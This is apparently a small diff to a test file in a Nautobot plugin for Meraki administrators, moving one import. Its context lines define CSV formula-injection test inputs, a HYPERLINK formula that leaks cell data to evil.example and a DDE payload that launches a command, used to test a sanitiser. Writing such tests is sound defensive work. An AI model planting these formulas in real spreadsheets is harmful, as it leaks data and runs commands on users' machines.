@@ -14,10 +14,10 @@ from nautobot.apps.testing import TransactionTestCase, create_job_result_and_run
 from nautobot.extras.models import FileProxy
 
 from nautobot_meraki_users import csv_safety
-from nautobot_meraki_users.csv_import import IMPORT_COLUMNS
 from nautobot_meraki_users.csv_safety import formula_safe
 from nautobot_meraki_users.jobs import to_csv
 from nautobot_meraki_users.models import MerakiAdministrator
+from nautobot_meraki_users.operations.csv_import import IMPORT_COLUMNS
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 ORG_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
